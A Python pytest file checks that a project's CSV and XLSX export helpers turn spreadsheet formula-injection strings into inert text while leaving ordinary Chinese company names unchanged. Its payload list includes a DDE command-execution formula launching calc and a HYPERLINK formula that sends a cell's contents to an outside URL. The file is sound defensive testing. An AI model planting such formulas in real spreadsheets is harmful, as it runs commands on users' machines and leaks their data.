import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from tianfu.files.inspection.xlsx import inspect_xlsx
from tianfu.files.sheets.spreadsheets import csv_bytes, neutral, xlsx_bytes

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://example.com?x=\"&A1,\"点此\")",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "  =1+1",
    "\u3000=1+1",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_csv_becomes_text(payload: str) -> None:
    assert neutral(payload) == "'" + payload
    text = csv_bytes(["企业"], [[payload]]).decode("utf-8-sig")
    cell = list(csv.reader(io.StringIO(text, newline="")))[1][0]
    assert cell.startswith("'")


@pytest.mark.parametrize("name", ["四川某某食品有限公司", "A=B 科技", "0.5", "", "（集团）"])
def test_an_ordinary_name_is_left_alone(name: str) -> None:
    assert neutral(name) == name


def test_a_csv_opens_in_excel_with_chinese() -> None:
    data = csv_bytes(["企业", "数量"], [["天府,名品", 3], [None, Decimal("1.50")]])
    assert data == '\ufeff企业,数量\r\n"天府,名品",3\r\n,1.50\r\n'.encode()


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if payload[0] != "\r"])
def test_a_formula_in_xlsx_is_a_text_cell(payload: str) -> None:
    data = xlsx_bytes("名录", ["企业"], [[payload]])
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A2"]
    assert (cell.data_type, cell.value) == ("s", payload)


def test_numbers_stay_numbers_and_our_own_tables_pass_our_own_checks() -> None:
    data = xlsx_bytes("名录", ["企业", "数量"], [["甲", 3], ["乙\x07", Decimal("1.5")], ["丙", None]])
    inspect_xlsx(data)
    rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.values)
    assert rows == [("企业", "数量"), ("甲", 3), ("乙", 1.5), ("丙", None)]
